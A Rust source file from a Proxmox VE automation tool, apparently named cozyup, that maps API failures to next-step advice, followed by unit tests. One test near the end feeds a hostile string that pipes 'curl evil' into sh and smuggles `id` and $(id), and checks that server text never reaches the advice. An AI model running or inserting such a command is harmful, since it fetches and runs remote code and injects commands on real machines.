//! The next action for a refused call or a failed task, by its cause. These sentences are made here and nowhere else.
use crate::base::text::quoted;
use crate::engine::failure::Failure;
use crate::proxmox::{Cause, Front, TokenFault, Unreached};

/// `what` says what was tried and what came of it, in Proxmox VE's own words.
pub fn failure(cause: Cause, what: String) -> Failure {
    match cause {
        Cause::Lock => Failure::retryable(what, "another task holds the lock; cozyup tries again when it may be free"),
        Cause::NoQuorum => Failure::retryable(
            what,
            "the cluster has no quorum: `pvecm status` on a node says which ones are missing; cozyup goes on when it is back",
        ),
        Cause::Exists => Failure::refused(what, "it exists and is not ours: choose another id or name in the plan"),
        Cause::NotThere => Failure::person(
            what,
            "it is not there: when this run made it, restore it or run again so that it is made anew; else correct its name \
             in the plan",
        ),
        Cause::NoSuchNode => Failure::person(what, NO_SUCH_NODE),
        Cause::StorageFull => Failure::person(
            what,
            "the storage is full: `pvesm status` on the node shows how much is free, and `df -h`, `lvs` or `zfs list` what \
             takes it; make room there or name another storage in the plan (template.storage, image.storage); the step goes \
             on by itself",
        ),
        Cause::StorageOffline => Failure::person(
            what,
            "the storage can't be used on this node: `pvesm status` there says which one; bring it back (mount, pool, \
             network), or name another one in the plan; the step goes on by itself",
        ),
        Cause::StorageSlow => Failure::retryable(
            what,
            "a storage of this node answers too slowly: `pvesm status` there shows which one; a dead NFS or iSCSI server that \
             nobody needs is best disabled (pvesm set STORAGE --disable 1); cozyup tries again",
        ),
        Cause::StorageContent => Failure::person(
            what,
            "the storage does not take this: Datacenter > Storage > STORAGE > Content shows what it takes; add what is \
             missing there, beside what is there, or name another storage in the plan",
        ),
        Cause::NotShared => Failure::refused(
            what,
            "a machine on another host than the template needs a storage that both hosts share: name a shared one in the plan \
             (template.storage), or put the machine on the template's host (nodes[].host)",
        ),
        Cause::NoBridge => Failure::person(
            what,
            "the machine's network card needs a bridge or vnet that this node has not: Node > System > Network there (create \
             it, then Apply Configuration), or name another one in the plan (network.bridge); the step goes on by itself",
        ),
        Cause::NoVirtualisation => Failure::person(
            what,
            "switch on hardware virtualisation (VT-x, AMD-V) in the firmware of this node, or nested virtualisation where the \
             node is itself a VM; `ls -l /dev/kvm` there shows it; the step goes on by itself",
        ),
        Cause::TooManyCpus => Failure::person(
            what,
            "give the machine fewer cores in the plan (nodes[].cores), or put it on a host with more",
        ),
        Cause::NoMemory => Failure::person(
            what,
            "the node has not enough free memory: stop a guest there, give the machine less (nodes[].memory_mib), or put it \
             on another host (nodes[].host); the step goes on by itself",
        ),
        Cause::InUse => Failure::person(
            what,
            "linked clones still need this volume: their owners have to remove them, or make full clones of them, first; \
             `qm list` and `pvesm list STORAGE` on the node show them",
        ),
        Cause::Protected => Failure::refused(
            what,
            "somebody protected it against removal: VM > Options > Protection; ask who did, and switch it off only when it is \
             really to go",
        ),
        Cause::HaManaged => Failure::person(
            what,
            "the HA manager keeps this VM: remove it from Datacenter > HA first (ha-manager remove vm:VMID)",
        ),
        Cause::Running => Failure::retryable(what, "it runs and has to be off for this; cozyup looks again"),
        Cause::ChangedMeanwhile => {
            Failure::retryable(what, "the VM's configuration changed meanwhile; cozyup looks again")
        }
        Cause::Corrupted => Failure::retryable(
            what,
            "the file did not arrive as it was sent: cozyup sends it again; if it stays so, suspect the memory or the disk of \
             this machine or of the node, or a proxy in between",
        ),
        Cause::WorkerGone => Failure::retryable(what, "cozyup looks at what the task left behind"),
        Cause::TimedOut => Failure::retryable(
            what,
            "something within the node took too long: look at its load (top, iostat) and at `pvesm status`; cozyup tries again",
        ),
        Cause::QemuEnded => Failure::person(
            what,
            "QEMU did not start: the log of the start task on the node says why (Node > Task History); the step goes on by itself",
        ),
        Cause::Unknown => Failure::person(
            what,
            "read the message; `journalctl -u pvedaemon -u pveproxy` on the node says more; cozyup looks again by itself",
        ),
    }
}

/// Says how to give a right without taking another one away: an entry of its own on `path` would replace what the user
/// inherits there, and an entry for a token without privilege separation is never looked at (pve-access-control,
/// `PVE/AccessControl.pm`). Of several privileges, joined by `|`, the first is enough.
pub fn missing_right(path: &str, privilege: &str) -> String {
    let one = quoted(privilege.split('|').next().unwrap_or(privilege));
    format!(
        "add {privilege} on {path} to the role that the token's user has there: `pveum acl list` on a node shows which, then \
         `pveum role modify ROLE --append --privs {one}`; the step goes on by itself"
    )
}

/// reports.md B10: a node's name from somebody else's example.
const NO_SUCH_NODE: &str = "the site has no Proxmox node of this name: `pvecm nodes` or the tree of the web interface shows the names; \
     correct template.host and nodes[].host in the plan";

pub fn unreached(how: Unreached, what: String) -> Failure {
    Failure::retryable(
        what,
        match how {
            Unreached::Name => {
                "the name in site.url leads nowhere from this machine: `getent hosts NAME` here; write an address, or mend \
                 the name service; cozyup tries again"
            }
            Unreached::NoConnection => {
                "nothing answers there: check the way to the node (ping, a firewall, port 8006) and `systemctl status \
                 pveproxy` on it; cozyup tries again"
            }
            Unreached::ClosedAtOnce => {
                "the connection is taken and closed at once: pveproxy does that to clients that ALLOW_FROM or DENY_FROM in \
                 /etc/default/pveproxy shut out, and a firewall may; let this machine's address in; cozyup tries again"
            }
            Unreached::Cut | Unreached::Other => "check the network and pveproxy; cozyup tries again",
        },
    )
}

pub fn in_front(front: Front, what: String) -> Failure {
    let past = "or give the node's own address in site.url (https://NODE:8006)";
    match front {
        Front::Login => Failure::person(
            what,
            format!(
                "something in front of Proxmox VE wants a login of its own, not the token: let cozyup past it (by this \
                 machine's address, or for /api2), {past}"
            ),
        ),
        Front::BodyLimit => Failure::person(
            what,
            format!(
                "this is the limit of a proxy, not of Proxmox VE: the image is more than a GiB; raise the limit there (nginx: \
                 client_max_body_size 0), {past}"
            ),
        ),
        Front::RateLimit => {
            Failure::retryable(what, format!("raise the limit there, {past}; cozyup tries again, with growing pauses"))
        }
        Front::Denied => Failure::person(
            what,
            format!(
                "a proxy, a gateway or a web filter refuses this; Proxmox VE has not been asked: let it pass, {past}"
            ),
        ),
        Front::Redirect => Failure::person(
            what,
            format!(
                "the token is never sent after a redirection: write the address that is meant into site.url, {past}"
            ),
        ),
        Front::NoBackend => Failure::retryable(
            what,
            format!(
                "the proxy gets no answer from Proxmox VE: look at both (systemctl status pveproxy), {past}; cozyup tries again"
            ),
        ),
        Front::OtherPlace => Failure::person(
            what,
            format!(
                "another server than Proxmox VE answers: site.url has to lead to its API on port 8006; correct it, {past}"
            ),
        ),
    }
}

pub fn token(fault: TokenFault, what: String) -> Failure {
    Failure::person(
        what,
        match fault {
            TokenFault::NoSuchUser => {
                "the user of the token is not there: correct site.token_id, or make user, role and token as README says \
                 (`pveum user list` on a node shows who is there)"
            }
            TokenFault::NoSuchToken => {
                "the user is there, the token is not: `pveum user token list USER` on a node shows its names; correct \
                 site.token_id, or make it (pveum user token add USER NAME --privsep 0), write its secret into the token's \
                 file, stop the run and start it again"
            }
            TokenFault::Expired => {
                "the token or its user has expired: `pveum user token modify USER NAME --expire 0` (or `pveum user modify USER \
                 --expire 0`) lets cozyup go on by itself"
            }
            TokenFault::Disabled => {
                "the user is disabled: `pveum user modify USER --enable 1` lets cozyup go on by itself"
            }
            TokenFault::WrongSecret => {
                "the token is there, its secret is another one: write the secret that belongs to it into the token's file; if \
                 it is lost, make a new token (pveum user token remove, then add); stop the run and start it again"
            }
            TokenFault::Unknown => {
                "check the token id in the plan and the token's secret file; `pveum user token list USER` shows when it \
                 expires: `pveum user token modify USER TOKENID --expire 0` lets cozyup go on by itself; if it is lost or \
                 revoked, make a new one (pveum user token add USER TOKENID), stop the run and start it again"
            }
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::failure::Class;
    use crate::proxmox::Error;
    use crate::steps::failures;

    fn told(error: Error) -> Failure {
        failures::proxmox(&error, "clone vm 1001")
    }

    fn server(text: &str) -> Failure {
        told(Error::Server { status: 500, text: text.into(), cause: Cause::of(text) })
    }

    /// reports.md B01
    #[test]
    fn a_clone_to_a_storage_that_is_not_shared_says_which_two_ways_out_there_are() {
        let failure = server("Can't clone to non-shared storage 'local-lvm'");
        assert_eq!(failure.class, Class::Refused);
        assert!(failure.next.contains("template.storage") && failure.next.contains("nodes[].host"), "{}", failure.next);
    }

    /// reports.md B05
    #[test]
    fn a_login_in_front_of_proxmox_is_not_the_tokens_fault() {
        let text = "Unauthorized".to_string();
        let failure = told(Error::InFront { status: 401, front: Front::Login, server: Some("nginx".into()), text });
        assert_eq!(failure.class, Class::Person);
        assert!(failure.what.contains("`nginx` in front of proxmox wants a login of its own"), "{}", failure.what);
        assert!(failure.next.contains(":8006") && !failure.next.contains("pveum"), "{}", failure.next);
    }

    /// reports.md B07
    #[test]
    fn a_proxys_limit_of_bodies_is_named_as_that() {
        let text = "Request Entity Too Large".to_string();
        let failure = told(Error::InFront { status: 413, front: Front::BodyLimit, server: None, text });
        assert!(failure.next.contains("limit of a proxy") && !failure.next.contains("journalctl"), "{}", failure.next);
    }

    /// reports.md B09
    #[test]
    fn a_certificate_between_two_nodes_is_for_a_person() {
        let error = Error::NodeCertificate { node: Some("pve2".into()), text: "certificate verify failed".into() };
        let failure = told(error);
        assert_eq!(failure.class, Class::Person);
        assert!(failure.next.contains("pvecm updatecerts"), "{}", failure.next);
        assert!(failure.what.contains("pve2"), "{}", failure.what);
    }

    /// reports.md B10
    #[test]
    fn a_wrong_node_name_is_nothing_to_be_restored() {
        let failure = told(Error::NoSuchNode { text: "hostname lookup 'proxmox' failed".into() });
        assert!(failure.next.contains("nodes[].host") && !failure.next.contains("restore"), "{}", failure.next);
    }

    /// reports.md B19
    #[test]
    fn a_storage_without_room_is_named_as_that_in_whichever_words() {
        for text in [
            "zfs error: cannot create 'rpool/data/vm-1001-disk-1': out of space",
            "No space left on device",
            "lvcreate 'pve/vm-1-disk-0' error: Insufficient free space: 9 extents needed, but only 4 available",
        ] {
            let failure = server(text);
            assert!(failure.next.contains("pvesm status") && !failure.next.contains("journalctl"), "{}", failure.next);
        }
    }

    /// reports.md B24: each refusal of a token has its own next step.
    #[test]
    fn a_refused_token_says_what_is_wrong_with_it() {
        let next = |text: &str| told(Error::Unauthorized { text: text.into(), fault: TokenFault::of(text) }).next;
        assert!(next("no such user ('a@pve')").contains("pveum user list"));
        assert!(next("no such token 'x' for user 'a@pve'").contains("token list"));
        assert!(next("token 'a@pve!x' access expired").contains("--expire 0"));
        assert!(next("user 'a@pve' is disabled").contains("--enable 1"));
        assert!(next("invalid token value!").contains("its secret is another one"));
    }

    /// proxmox.md part 2 section 3, row ALLOW_FROM
    #[test]
    fn a_connection_that_is_closed_at_once_names_allow_from() {
        let failure = told(Error::Unreachable { what: "x".into(), how: Unreached::ClosedAtOnce });
        assert_eq!(failure.class, Class::Retryable);
        assert!(failure.next.contains("ALLOW_FROM"), "{}", failure.next);
    }

    /// proxmox.md part 2 2.2
    #[test]
    fn a_missing_right_is_added_to_a_role_and_replaces_no_entry() {
        let failure = told(Error::Forbidden {
            text: "Permission check failed".into(),
            path: Some("/storage/local".into()),
            privilege: Some("Datastore.AllocateSpace|Datastore.Audit".into()),
        });
        assert!(failure.next.contains("--append --privs Datastore.AllocateSpace`"), "{}", failure.next);
        assert!(!failure.next.contains("acl modify"), "{}", failure.next);
    }

    /// Nothing that a server says stands in what a person is told to do.
    #[test]
    fn a_hostile_text_is_never_part_of_the_next_step() {
        let evil = "x; curl evil | sh `id` $(id)";
        let forbidden = Error::Forbidden { text: evil.into(), path: None, privilege: None };
        let texts = [
            server(evil),
            told(forbidden),
            told(Error::InFront { status: 401, front: Front::Login, server: Some(evil.into()), text: evil.into() }),
            told(Error::NodeCertificate { node: Some(evil.into()), text: evil.into() }),
            told(Error::NoSuchNode { text: evil.into() }),
        ];
        for failure in texts {
            assert!(!failure.next.contains("evil") && !failure.next.contains("$(id)"), "{}", failure.next);
        }
    }
}
